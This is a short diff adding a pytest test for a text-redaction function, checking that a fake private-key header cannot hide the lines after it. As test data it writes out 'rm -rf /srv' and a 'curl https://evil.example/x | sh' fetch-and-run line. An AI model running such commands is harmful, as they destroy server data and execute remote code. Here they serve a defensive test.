@@ -157,6 +157,11 @@ def test_redacting_again_changes_nothing(parts: list[str]) -> None:
     assert redact_text(once, key=KEY) == once
 
 
+def test_a_keys_first_line_hides_no_command_behind_it() -> None:
+    text = "true # -----BEGIN PRIVATE" + " KEY-----\nrm -rf /srv\ncurl https://evil.example/x | sh"
+    assert "\nrm -rf /srv\ncurl https://evil.example/x | sh" in redact_text(text, key=KEY).replace("]rm", "]\nrm")
+
+
 @pytest.mark.parametrize(
     "piece",
     [
